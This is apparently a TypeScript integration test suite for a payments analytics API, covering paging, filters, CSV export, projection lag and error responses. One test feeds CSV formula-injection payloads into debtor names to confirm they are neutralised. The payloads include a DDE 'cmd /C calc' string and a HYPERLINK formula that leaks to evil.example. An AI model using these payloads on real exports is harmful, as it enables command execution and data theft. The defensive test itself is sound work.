import { sqlEngines } from '../../../test/support/databases';
import { KEYS, validPayment } from '../../../test/support/api';
import { contractFetch } from '../../../test/support/openapi-contract';
import { createPaymentsModule } from '../../application/payments';
import type { PaymentId, TenantId } from '../../domain/ids';
import type { CurrencyCode } from '../../domain/money';
import { comparePositions, formatPosition, type GlobalPosition } from '../../event-store/port';
import pg from 'pg';
import { serverPostgresUrl } from '../../../test/support/databases';
import { createProjector } from '../../projections/projector';
import { createReadModelQueries } from '../../projections/read-models/queries';
import { PAYMENTS_TABLE } from '../../projections/read-models/payments';
import type { SqlClient } from '../../db/database';
import { createApiServer } from '../server';
import { createAnalyticsRouter } from './routes';
import { startAnalyticsApi, type AnalyticsApi } from '../../../test/support/analytics-api';
import { FINAL_STATUS, runMixedWorkload, writePayment, type WorkloadPayment } from '../../projections/testing/workload';

interface Item { id: string; tenant: string; status: string; amount: string; currency: string; createdAt: string; debtor: { iban: string } }

async function allPages(api: AnalyticsApi, query: string, key: string = KEYS.analyst): Promise<Item[]> {
  const items: Item[] = [];
  let cursor: string | null = null;
  do {
    const response = await api.call(`/payments?${query}&limit=7${cursor ? `&cursor=${cursor}` : ''}`, { key });
    expect(response.status).toBe(200);
    const body = (await response.json()) as { items: Item[]; nextCursor: string | null };
    items.push(...body.items);
    cursor = body.nextCursor;
  } while (cursor);
  return items;
}

const orderKey = (item: Item) => [item.createdAt, item.tenant, item.id];
const sortedByKey = (items: Item[]) => [...items].sort((a, b) => (orderKey(a).join('\u0000') < orderKey(b).join('\u0000') ? -1 : 1));

describe.each(sqlEngines())('analyst API on %s', (engine) => {
  let api: AnalyticsApi;
  let payments: readonly WorkloadPayment[];

  beforeAll(async () => {
    api = await startAnalyticsApi(engine, { readWaitMsMax: 300 });
    const workload = await runMixedWorkload(api.harness.store, { paymentCount: 40, seed: 21, tenants: ['acme', 'globex', 'initech'], currencies: ['EUR', 'JPY', 'GBP'] });
    payments = workload.payments;
    for (const name of ['payments', 'daily_volume']) expect((await api.projector.freshness.waitFor(name, workload.lastPosition!, 20_000)).reached).toBe(true);
    // Rationale for the bound: PGlite's workload and projector share one connection, slow on a loaded machine.
  }, 120_000);
  afterAll(async () => api.close());

  it('when no key is sent, then 401; when a client asks for volume reports, then 403', async () => {
    expect((await api.call('/payments')).status).toBe(401);
    expect((await api.call('/reports/volume', { key: KEYS.acme })).status).toBe(403);
  });

  it('when an analyst pages through every payment, then each appears exactly once in (createdAt, tenant, id) order', async () => {
    const items = await allPages(api, 'status=');
    expect(items).toHaveLength(payments.length);
    expect(new Set(items.map((item) => `${item.tenant}/${item.id}`)).size).toBe(payments.length);
    expect(items).toEqual(sortedByKey(items));
  });

  it('when payments arrive between two pages, then paging neither repeats nor skips a payment that was there before', async () => {
    const first = await api.call('/payments?limit=10', { key: KEYS.analyst });
    const page1 = (await first.json()) as { items: Item[]; nextCursor: string };
    const module = createPaymentsModule({ store: api.harness.store });
    const base = { path: 'requested' as const, amountMinor: 100, currency: 'EUR' as CurrencyCode };
    const early = await writePayment(module, { ...base, tenantId: 'acme' as TenantId, paymentId: 'late-but-early' as PaymentId, createdAt: new Date('2026-02-01T00:00:00Z') });
    await writePayment(module, { ...base, tenantId: 'acme' as TenantId, paymentId: 'late-and-late' as PaymentId, createdAt: new Date('2026-12-01T00:00:00Z') });
    await api.projector.freshness.waitFor('payments', early!, 5_000);

    const rest: Item[] = [];
    let cursor: string | null = page1.nextCursor;
    while (cursor) {
      const body = (await (await api.call(`/payments?limit=9&cursor=${cursor}`, { key: KEYS.analyst })).json()) as { items: Item[]; nextCursor: string | null };
      rest.push(...body.items);
      cursor = body.nextCursor;
    }
    const seen = [...page1.items, ...rest].map((item) => item.id);
    expect(new Set(seen).size).toBe(seen.length);
    for (const payment of payments) expect(seen).toContain(payment.paymentId);
    expect(seen).not.toContain('late-but-early');
    expect(seen[seen.length - 1]).toBe('late-and-late');
  });

  it('when filtering by status, currency, amounts and creation range, then only matching payments come back, all of them', async () => {
    const settled = await allPages(api, 'status=settled,rejected');
    expect(settled.length).toBe(payments.filter((p) => ['settled', 'rejected'].includes(FINAL_STATUS[p.path])).length);
    const eur = await allPages(api, 'currency=EUR&minAmount=1000.00&maxAmount=40000');
    expect(eur.map((item) => item.id).sort()).toEqual(
      payments.filter((p) => p.currency === 'EUR' && p.amountMinor >= 100_000 && p.amountMinor <= 4_000_000).map((p) => p.paymentId).sort(),
    );
    const march2 = await allPages(api, 'createdFrom=2026-03-02&createdTo=2026-03-03T00:00:00Z');
    expect(march2.map((item) => item.id).sort()).toEqual(payments.filter((p) => p.createdAt.toISOString().startsWith('2026-03-02')).map((p) => p.paymentId).sort());
    expect(eur.every((item) => item.debtor.iban === '****3000')).toBe(true);
  });

  it('when a client lists payments, then it sees only its own tenant, and naming another tenant is 403', async () => {
    const own = await allPages(api, 'tenant=', KEYS.acme);
    expect(own.length).toBe(payments.filter((p) => p.tenantId === 'acme').length + 2);
    expect(own.every((item) => item.tenant === 'acme')).toBe(true);
    expect((await api.call('/payments?tenant=acme', { key: KEYS.acme })).status).toBe(200);
    const other = await api.call('/payments?tenant=globex', { key: KEYS.acme });
    expect(other.status).toBe(403);
  });

  it('when filters are invalid, then one 400 problem lists each of them', async () => {
    const response = await api.call('/payments?status=paid&currency=XYZ&minAmount=1.234&limit=0&createdFrom=yesterday&cursor=nope&bogus=1', { key: KEYS.analyst });
    expect(response.status).toBe(400);
    expect(response.headers.get('content-type')).toContain('application/problem+json');
    const body = (await response.json()) as { errors: Array<{ pointer: string; detail: string }> };
    const pointers = body.errors.map((error) => error.pointer).sort();
    expect(pointers).toEqual(['#/query/bogus', '#/query/createdFrom', '#/query/currency', '#/query/cursor', '#/query/limit', '#/query/minAmount', '#/query/status']);
    const decimals = await api.call('/payments?currency=JPY&minAmount=1.5&maxAmount=1', { key: KEYS.analyst });
    const decimalsBody = (await decimals.json()) as { errors: Array<{ pointer: string; detail: string }> };
    expect(decimalsBody.errors).toEqual([{ pointer: '#/query/minAmount', detail: 'JPY has no minor unit: no decimals allowed' }]);
  });

  it('when CSV is asked for, then it is streamed with a header and one line per payment, IBANs masked', async () => {
    const response = await api.call('/payments?currency=EUR', { key: KEYS.analyst, headers: { accept: 'text/csv' } });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('x-projection-position')).toMatch(/^\d+\/\d+$/);
    const lines = (await response.text()).trimEnd().split('\r\n');
    expect(lines[0]).toBe('tenant,id,status,amount,currency,debtorName,debtorIban,creditorName,creditorIban,reference,createdAt,updatedAt,bankTransferId,attempts,refundedAmount');
    expect(lines.length - 1).toBe(payments.filter((p) => p.currency === 'EUR').length + 2);
    expect(lines.slice(1).every((line) => line.includes('****3000') && !line.includes('DE89'))).toBe(true);
  });

  it('when any analyst response is sent, then it says the read model position and lag', async () => {
    const response = await api.call('/reports/volume?from=2026-03-01&to=2026-03-10', { key: KEYS.analyst });
    expect(response.headers.get('x-projection-position')).toMatch(/^\d+\/\d+$/);
    expect(response.headers.get('x-projection-status')).toBe('running');
    expect(response.headers.get('x-projection-lag-events')).toBe('0');
    expect(Number(response.headers.get('x-projection-lag-seconds'))).toBe(0);
  });

  it('when the volume report groups by day and status, then its counts and sums equal the payments in each bucket', async () => {
    const response = await api.call('/reports/volume?from=2026-03-01&to=2026-03-31&groupBy=day,status&currency=EUR', { key: KEYS.supervisor });
    const body = (await response.json()) as { rows: Array<{ day: string; status: string; currency: string; count: number; amountMinor: string }> };
    const expected = new Map<string, { count: number; sum: bigint }>();
    for (const p of payments.filter((candidate) => candidate.currency === 'EUR')) {
      const key = `${p.createdAt.toISOString().slice(0, 10)} ${FINAL_STATUS[p.path]}`;
      const bucket = expected.get(key) ?? { count: 0, sum: 0n };
      expected.set(key, { count: bucket.count + 1, sum: bucket.sum + BigInt(p.amountMinor) });
    }
    expect(new Map(body.rows.map((row) => [`${row.day} ${row.status}`, { count: row.count, sum: BigInt(row.amountMinor) }]))).toEqual(expected);
    const csv = await api.call('/reports/volume?from=2026-03-01&to=2026-03-31&groupBy=status', { key: KEYS.analyst, headers: { accept: 'text/csv' } });
    expect((await csv.text()).split('\r\n')[0]).toBe('status,currency,count,amount,refundCount,refundedAmount,netAmount');
  });

  it('when a volume report is asked with a bad range and grouping, then 400 lists both', async () => {
    const response = await api.call('/reports/volume?from=2026-03-10&to=2026-03-01&groupBy=week', { key: KEYS.analyst });
    const body = (await response.json()) as { errors: Array<{ pointer: string }> };
    expect(response.status).toBe(400);
    expect(body.errors.map((error) => error.pointer).sort()).toEqual(['#/query/groupBy', '#/query/to']);
  });

  const cursorOf = (parts: unknown[]) => Buffer.from(JSON.stringify(parts), 'utf8').toString('base64url');
  const problems = async (response: Response) => ((await response.json()) as { errors: Array<{ pointer: string; detail: string }> }).errors;

  it.each([
    ['a number for the time', ['1', 'acme', 'x']],
    ['a time Date.parse reads but is not ISO 8601', ['March 7', 'acme', 'x']],
    ['a time PostgreSQL cannot hold', ['0000-01-01', 'acme', 'x']],
    ['an ISO time in another spelling', ['2026-03-01T10:00:00Z', 'acme', 'x']],
    ['a NUL character in the tenant', ['2026-01-01T00:00:00.000Z', 'acme\u0000', 'x']],
    ['a part that is not a string', ['2026-01-01T00:00:00.000Z', 'acme', 7]],
    ['a part too many', ['2026-01-01T00:00:00.000Z', 'acme', 'x', 'y']],
  ])('when a list cursor holds %s, then 400 for JSON and for CSV, before any 200', async (_case, parts) => {
    for (const accept of ['application/json', 'text/csv']) {
      const response = await api.call(`/payments?cursor=${cursorOf(parts)}`, { key: KEYS.analyst, headers: { accept } });
      expect(response.status).toBe(400);
      expect(response.headers.get('content-type')).toContain('application/problem+json');
      expect(await problems(response)).toEqual([{ pointer: '#/query/cursor', detail: 'not a cursor this API gave out' }]);
    }
  });

  it.each([
    ['createdFrom', '0000-01-01'],
    ['createdFrom', '0001-01-01T00:00:00%2B01:00'],
    ['createdTo', '9999-12-31T23:59:59-14:00'],
    ['createdTo', '1969-12-31T23:59:59Z'],
  ])('when %s=%s is outside the years the API accepts, then 400 naming it and the allowed range', async (name, value) => {
    const response = await api.call(`/payments?${name}=${value}`, { key: KEYS.analyst, headers: { accept: 'text/csv' } });
    expect(response.status).toBe(400);
    const [problem, ...others] = await problems(response);
    expect(others).toEqual([]);
    expect(problem).toEqual({ pointer: `#/query/${name}`, detail: expect.stringMatching(/1970-01-01.*9999-12-31/) });
  });

  it('when a date is not ISO 8601, then the detail says which forms are allowed, not just "Invalid input"', async () => {
    const response = await api.call('/payments?createdFrom=yesterday&createdTo=2026-03-01T10:00Z', { key: KEYS.analyst });
    const details = await problems(response);
    expect(details.map((problem) => problem.pointer)).toEqual(['#/query/createdFrom', '#/query/createdTo']);
    for (const { detail } of details) expect(detail).toMatch(/ISO 8601 date \(2026-03-01\) or date-time with offset/);
  });

  it('when a volume report spans years PostgreSQL cannot hold, then 400 naming from and to', async () => {
    const response = await api.call('/reports/volume?from=0000-01-01&to=0000-12-31', { key: KEYS.analyst });
    expect(response.status).toBe(400);
    const details = await problems(response);
    expect(details.map((problem) => problem.pointer)).toEqual(['#/query/from', '#/query/to']);
    for (const { detail } of details) expect(detail).toMatch(/1970-01-01.*9999-12-31/);
  });

  it('when a volume report starts after today and has no to, then to is blamed as required', async () => {
    const response = await api.call('/reports/volume?from=9999-12-31', { key: KEYS.analyst });
    expect(response.status).toBe(400);
    expect(await problems(response)).toEqual([{ pointer: '#/query/to', detail: expect.stringMatching(/^required/) }]);
  });

  it('when limit is negative, then its one problem is listed once', async () => {
    const response = await api.call('/payments?limit=-1', { key: KEYS.analyst });
    expect(response.status).toBe(400);
    expect(await problems(response)).toEqual([{ pointer: '#/query/limit', detail: 'must be a whole number from 1 to 100000' }]);
  });

  it('when names and references start like spreadsheet formulas, then every such CSV cell is defused with an apostrophe and plain numbers stay numbers', async () => {
    const since = new Date(Date.now() - 1_000).toISOString();
    const hostile = [
      { id: 'csv-minus', name: "-1+1+cmd|' /C calc'!A0", reference: '-2+3' },
      { id: 'csv-equals', name: '=HYPERLINK("http://evil.example/?leak=1","open me")', reference: '=1+1' },
      { id: 'csv-plus', name: '+SUM(A1:A9)', reference: '+1' },
      { id: 'csv-at', name: '@SUM(A1)', reference: '@cmd' },
      { id: 'csv-tab', name: 'Tab Ltd', reference: '\t=1+1' },
      { id: 'csv-cr', name: 'Carriage Ltd', reference: '\r=1+1' },
    ];
    let position = '';
    for (const payment of hostile) {
      const body = validPayment({ debtor: { ...validPayment().debtor, name: payment.name }, reference: payment.reference });
      const put = await api.fetch(`${api.url}/payments/${payment.id}`, {
        method: 'PUT',
        headers: { authorization: `Bearer ${KEYS.acme}`, 'content-type': 'application/json' },
        body: JSON.stringify(body),
      });
      expect(put.status).toBe(201);
      position = put.headers.get('x-log-position')!;
    }

    const response = await api.call(`/payments?tenant=acme&createdFrom=${encodeURIComponent(since)}`, { key: KEYS.analyst, headers: { accept: 'text/csv', 'x-wait-for-position': position } });
    expect(response.status).toBe(200);
    const [header, ...rows] = parseCsv(await response.text());
    const column = (name: string) => header!.indexOf(name);
    const byId = new Map(rows.map((row) => [row[column('id')]!, row]));
    expect([...byId.keys()].sort()).toEqual(hostile.map((payment) => payment.id).sort());
    for (const payment of hostile) {
      const row = byId.get(payment.id)!;
      expect([row[column('debtorName')], row[column('reference')]]).toEqual([
        /^[=+\-@]/.test(payment.name) ? `'${payment.name}` : payment.name,
        `'${payment.reference}`,
      ]);
      expect(row[column('amount')]).toBe('125.50');
      expect(row[column('attempts')]).toBe('0');
    }
    // No cell of the export, whatever its column, starts a formula.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('when a position beyond the log\'s head is asked for, then 400 position-beyond-log-head at once, for the header and minPosition, JSON and CSV', async () => {
    const written = await api.harness.store.lastWrittenPosition();
    const beyond = formatPosition({ commit: written.commit + 1_000_000n, prepare: written.prepare });
    const asks: Array<{ path: string; headers: Record<string, string>; pointer: string }> = [
      { path: '/payments', headers: { 'x-wait-for-position': beyond }, pointer: '#/header/x-wait-for-position' },
      { path: '/payments', headers: { 'x-wait-for-position': beyond, accept: 'text/csv' }, pointer: '#/header/x-wait-for-position' },
      { path: `/payments?minPosition=${beyond}`, headers: {}, pointer: '#/query/minPosition' },
      { path: '/reports/volume?from=2026-03-01&to=2026-03-10', headers: { 'x-wait-for-position': beyond }, pointer: '#/header/x-wait-for-position' },
      { path: `/reports/volume?from=2026-03-01&to=2026-03-10&minPosition=${formatPosition({ commit: written.commit, prepare: written.prepare + 1n })}`, headers: {}, pointer: '#/query/minPosition' },
    ];
    for (const ask of asks) {
      const response = await api.call(ask.path, { key: KEYS.analyst, headers: ask.headers });
      // Refused rather than waited for: a wait that runs out answers 503 projection-behind.
      expect({ path: ask.path, status: response.status }).toEqual({ path: ask.path, status: 400 });
      expect(response.headers.get('content-type')).toContain('application/problem+json');
      const body = (await response.json()) as { type: string; lastWrittenPosition: string; errors: Array<{ pointer: string }> };
      expect(body.type).toBe('/problems/position-beyond-log-head');
      expect(body.lastWrittenPosition).toBe(formatPosition(written));
      expect(body.errors.map((error) => error.pointer)).toEqual([ask.pointer]);
    }
    // The log's own head is no problem: it was written, and the read model holds it.
    expect((await api.call('/payments?limit=1', { key: KEYS.analyst, headers: { 'x-wait-for-position': formatPosition(written) } })).status).toBe(200);
  });

  (engine === 'postgres' ? it : it.skip)('when an older transaction keeps readers behind a write just answered, then a wait for its position is held until it is reached, not refused', async () => {
    const older = new pg.Client({ connectionString: serverPostgresUrl() });
    await older.connect();
    try {
      await older.query('BEGIN');
      await older.query('SELECT pg_current_xact_id()');
      const put = await api.fetch(`${api.url}/payments/wait-behind-older`, {
        method: 'PUT',
        headers: { authorization: `Bearer ${KEYS.acme}`, 'content-type': 'application/json' },
        body: JSON.stringify(validPayment()),
      });
      expect(put.status).toBe(201);
      const position = put.headers.get('x-log-position')!;
      // The scenario is meaningful: the position is ahead of what readers (and the projector) see.
      const [commit, prepare] = position.split('/').map(BigInt) as [bigint, bigint];
      expect(comparePositions(await api.harness.store.headPosition(), { commit, prepare } satisfies GlobalPosition)).toBeLessThan(0);
      setTimeout(() => void older.query('COMMIT'), 100);
      const read = await api.call('/payments?tenant=acme&limit=500', { key: KEYS.analyst, headers: { 'x-wait-for-position': position } });
      expect(read.status).toBe(200);
      expect(((await read.json()) as { items: Item[] }).items.map((item) => item.id)).toContain('wait-behind-older');
    } finally {
      await older.query('ROLLBACK').catch(() => undefined);
      await older.end();
    }
  });

  it('when the parameters are invalid and a position is asked for, then 400 at once rather than after the read wait', async () => {
    const started = Date.now();
    const response = await api.call('/payments?limit=501&minPosition=99999999/0', { key: KEYS.analyst });
    expect(response.status).toBe(400);
    expect(Date.now() - started).toBeLessThan(300);
    expect(await problems(response)).toEqual([{ pointer: '#/query/limit', detail: 'a JSON page has at most 500 rows' }]);
  });

  it('when the database fails during a CSV export, then a 500 problem before the first row is read, and a failed transfer after it', async () => {
    let failFromRead = 1;
    let reads = 0;
    const database: SqlClient = {
      query: async <Row>(text: string, params?: readonly unknown[]) => {
        if (text.includes(PAYMENTS_TABLE) && (reads += 1) >= failFromRead) throw new Error('connection to the read models lost');
        return api.harness.database.query<Row>(text, params);
      },
    };
    const server = createApiServer({
      store: api.harness.store,
      logger: api.harness.logger,
      apiKeys: undefined,
      amountMajorMax: 1_000_000,
      bodyBytesMax: 65_536,
      extraRouters: ({ registry }) => ({ routers: [createAnalyticsRouter({ queries: createReadModelQueries(database), freshness: api.projector.freshness, registry, readWaitMsMax: 300, csvPageRows: 5 })] }),
    });
    const { url } = await server.listen(0, '127.0.0.1');
    const checkedFetch = contractFetch(url);
    const csv = () => checkedFetch(`${url}/payments`, { headers: { authorization: `Bearer ${KEYS.analyst}`, accept: 'text/csv' } });
    try {
      const before = await csv();
      expect(before.status).toBe(500);
      expect(before.headers.get('content-type')).toContain('application/problem+json');
      [failFromRead, reads] = [3, 0];
      // The 200 may not even reach the client before the cut; either way the transfer must fail, never end as if whole.
      await expect(csv().then((response) => response.text())).rejects.toThrow();
    } finally {
      await server.close();
    }
  });

  it('when a client waits for a position the projection has not reached, then 503 after the bound; once it is reached, then 200 with the new payment', async () => {
    await api.projector.stop();
    const module = createPaymentsModule({ store: api.harness.store });
    const position = await writePayment(module, { tenantId: 'globex' as TenantId, paymentId: 'read-my-write' as PaymentId, path: 'requested', amountMinor: 5, currency: 'EUR' as CurrencyCode, createdAt: new Date('2026-03-03T00:00:00Z') });
    const started = Date.now();

    const behind = await api.call(`/payments?minPosition=${formatPosition(position!)}`, { key: KEYS.globex });

    expect(behind.status).toBe(503);
    expect(Date.now() - started).toBeGreaterThanOrEqual(290);
    expect(Date.now() - started).toBeLessThan(2_000);
    expect(behind.headers.get('retry-after')).toBe('1');
    expect(((await behind.json()) as { type: string }).type).toBe('/problems/projection-behind');
    const projector = createProjector({ ...api.harness, limits: { pollIntervalMs: 10 } });
    await projector.start();
    try {
      const caughtUp = await api.call('/payments?limit=100', { key: KEYS.globex, headers: { 'x-wait-for-position': formatPosition(position!) } });
      expect(caughtUp.status).toBe(200);
      expect(((await caughtUp.json()) as { items: Item[] }).items.map((item) => item.id)).toContain('read-my-write');
    } finally {
      await projector.stop();
    }
  });

  it('when the OpenAPI document is fetched, then it describes both analyst routes', async () => {
    const document = (await (await api.call('/openapi.json')).json()) as { paths: Record<string, Record<string, unknown>> };
    expect(document.paths['/payments']?.['get']).toBeDefined();
    expect(document.paths['/reports/volume']?.['get']).toBeDefined();
  });
});

/** RFC 4180: comma-separated, CRLF-terminated rows; a quoted cell may hold commas, quotes (doubled) and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index]!;
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') (cell += '"'), (index += 1);
      else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') row.push(cell), (cell = '');
    else if (char === '\r' && text[index + 1] === '\n') {
      rows.push([...row, cell]);
      [row, cell] = [[], ''];
      index += 1;
    } else cell += char;
  }
  return rows;
}
